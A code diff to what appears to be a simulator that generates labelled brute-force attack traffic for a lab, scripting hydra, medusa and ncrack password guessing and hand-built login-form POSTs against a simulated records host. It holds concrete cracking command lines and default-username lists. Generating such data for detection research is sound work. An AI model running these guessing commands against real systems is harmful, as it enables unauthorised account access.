@@ -5,14 +5,18 @@ from ..benign import accounts
 from . import mqtt_packets as mqtt, scenario, talk
 
 SSH, FTP, TELNET, MQTT = 22, 21, 23, 1883
-OBVIOUS = ("root", "admin", "test", "guest", "oracle", "ubuntu", "pi", "nurse", "doctor", "service", "hospital")
+# ncrack would save where it was, outside the room, if it were asked to end.
+BRIEFLY = "timeout", "-s", "KILL", 8
+OBVIOUS = ("root", "admin", "test", "guest", "oracle", "ubuntu", "pi", "nurse", "doctor", "service",
+           "hospital")
 
 
 def guesses(scene, count, service=None):
     """Users and passwords that this attacker tries; now and then the right ones are among them."""
     dice = scene.dice
     users = dice.sample(OBVIOUS + accounts.USERS, dice.randint(1, 6))
-    passwords = [word + str(dice.randrange(10 ** dice.randrange(5))) for word in talk.words(dice, count - 6, 2, 12)]
+    passwords = [word + str(dice.randrange(10 ** dice.randrange(5)))
+                 for word in talk.words(dice, count - 6, 2, 12)]
     passwords += dice.sample(accounts.PASSWORDS, 6)
     dice.shuffle(passwords)
     if service and dice.random() < 0.3:
@@ -30,7 +34,7 @@ def lists(scene, *parameters):
 
 def tool(scene, port, words, source=None, seconds=1.6):
     """Runs a guessing program from one address against the records; restore files stay in the room."""
-    attacker, victim = source or scene.dice.choice((scene.outsider, scene.insider))(), scene.host("records")
+    attacker, victim = source or talk.either(scene), scene.host("records")
     words = [str(word).replace("TARGET", victim.address) for word in words]
     with scene.attack(attacker.address, victim.address, 6, port, tail=6):
         scene.run(attacker, "env", "-C", scene.room.folder, f"HOME={scene.room.folder}", *words,
@@ -38,9 +42,11 @@ def tool(scene, port, words, source=None, seconds=1.6):
 
 
 def hydra(scene, service, port, *more):
-    users, passwords = lists(scene, scene.dice.randint(30, 200), {SSH: "shell", FTP: "file"}.get(port, "portal"))
+    users, passwords = lists(scene, scene.dice.randint(30, 200),
+                             {SSH: "shell", FTP: "file"}.get(port, "portal"))
     dice = scene.dice
-    options = ["-u"] * dice.randrange(2) + ["-f"] * dice.randrange(2) + dice.choice(([], ["-e", "ns"], ["-e", "nsr"]))
+    options = ["-u"] * dice.randrange(2) + ["-f"] * dice.randrange(2)
+    options += dice.choice(([], ["-e", "ns"], ["-e", "nsr"]))
     tool(scene, port, ["hydra", "-I", "-q", "-L", users, "-P", passwords, "-t", dice.choice((1, 2, 4, 4, 8)),
                        "-s", port, *options, "TARGET", service, *more])
 
@@ -57,9 +63,8 @@ def ftp_hydra(scene):
 
 @scenario("form-hydra", "BRUTE_FORCE", "hydra at the web site's form", ["hydra"])
 def form_hydra(scene):
-    form = "/login:user=^USER^&password=^PASS^:F=Login failed"
-    if scene.dice.random() < 0.5:
-        form += ":H=User-Agent\\: Mozilla/5.0 (X11; Linux x86_64)"
+    header = scene.dice.choice(("", "H=User-Agent\\: Mozilla/5.0 (X11; Linux x86_64):"))
+    form = f"/login:user=^USER^&password=^PASS^:{header}F=Login failed"
     hydra(scene, "http-post-form", scene.dice.choice((80, 8080)), form)
 
 
@@ -82,19 +87,12 @@ def ftp_medusa(scene):
                       "-t", scene.dice.randint(1, 8)])
 
 
-@scenario("ssh-ncrack", "BRUTE_FORCE", "ncrack at the records' SSH", ["ncrack"])
-def ssh_ncrack(scene):
-    users, passwords = lists(scene, scene.dice.randint(20, 100), "shell")
-    limit, tries = scene.dice.randint(1, 6), scene.dice.randint(1, 5)
-    tool(scene, SSH, ["ncrack", "-U", users, "-P", passwords, "-g", f"CL={limit},at={tries},to={int(scene.seconds)}s",
-                      f"-T{scene.dice.randint(2, 5)}", "ssh://TARGET"])
-
-
 @scenario("ftp-ncrack", "BRUTE_FORCE", "ncrack at the records' FTP", ["ncrack"])
 def ftp_ncrack(scene):
     users, passwords = lists(scene, scene.dice.randint(20, 100), "file")
-    limit = scene.dice.randint(1, 8)
-    tool(scene, FTP, ["ncrack", "-U", users, "-P", passwords, "-g", f"CL={limit},to={int(scene.seconds)}s", "ftp://TARGET"])
+    limit = scene.dice.randint(2, 8)
+    tool(scene, FTP, [*BRIEFLY, "ncrack", "-U", users, "-P", passwords, "-g", f"cl={limit},CL={limit},cd=0",
+                      "ftp://TARGET"])
 
 
 def ask(connection, words=None):
@@ -119,8 +117,9 @@ def form_guess(connection, user, passwords):
     """The web site's form, over one connection."""
     for password in passwords:
         body = f"user={user}&password={password}"
-        connection.sendall(f"POST /login HTTP/1.1\r\nHost: records\r\nContent-Type: application/x-www-form-urlencoded\r\n"
-                           f"Content-Length: {len(body)}\r\n\r\n{body}".encode())
+        head = ("POST /login HTTP/1.1", "Host: records", "Content-Type: application/x-www-form-urlencoded",
+                f"Content-Length: {len(body)}", "", body)
+        connection.sendall("\r\n".join(head).encode())
         ask(connection)
 
 
@@ -153,7 +152,8 @@ def guess(scene, host, sources, victim, port, attempt, rate, most=3, seconds=Non
     def work(source, dice):
         for _ in talk.beats(scene, dice, rate / len(sources), seconds):
             tried = dice.sample(passwords, dice.randint(1, most))
-            with contextlib.suppress(OSError), talk.conversation(source, victim.address, port, dice, 4) as connection:
+            with contextlib.suppress(OSError), talk.conversation(source, victim.address, port, dice,
+                                                                 4) as connection:
                 attempt(connection, dice.choice(users), tried)
     with talk.blamed(scene, sources, victim.address, port, tail=5):
         talk.crew(scene, host, sources, work)
